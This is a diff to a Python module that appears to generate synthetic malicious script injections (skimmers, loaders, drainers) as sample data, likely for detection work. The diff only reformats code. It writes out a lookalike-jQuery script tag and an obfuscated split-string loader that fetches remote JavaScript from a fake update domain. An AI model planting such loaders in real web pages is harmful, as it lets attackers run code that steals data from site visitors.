@@ -1,3 +1,4 @@
+# ruff: noqa: E501
 """Foreign scripts as 2024-2026 skimmer, loader and drainer crews plant them."""
 
 from __future__ import annotations
@@ -67,7 +68,10 @@ def _etherhiding(rng: random.Random) -> tuple[str, str]:
 
 
 def _lookalike_jquery(rng: random.Random) -> tuple[str, str]:
-    return f'<script src="https://code.jquery-libs.org/jquery-migrate-3.4.{rng.randint(2, 9)}.min.js"></script>', "head"
+    return (
+        f'<script src="https://code.jquery-libs.org/jquery-migrate-3.4.{rng.randint(2, 9)}.min.js"></script>',
+        "head",
+    )
 
 
 def _data_uri(rng: random.Random) -> tuple[str, str]:
@@ -87,7 +91,11 @@ def _beacon_keylogger(rng: random.Random) -> tuple[str, str]:
 
 def _split_string_loader(rng: random.Random) -> tuple[str, str]:
     parts = ["ht", "tps:", "//cd", "n.wp", "-upd", "ate-", "svc.", "com/", "b.js"]
-    js = "var u=" + "+".join(f"'{p}'" for p in parts) + ";var t=document.createElement('scr'+'ipt');t.src=u;document.head.appendChild(t);"
+    js = (
+        "var u="
+        + "+".join(f"'{p}'" for p in parts)
+        + ";var t=document.createElement('scr'+'ipt');t.src=u;document.head.appendChild(t);"
+    )
     return f"<script>{js}</script>", "body"
 
 
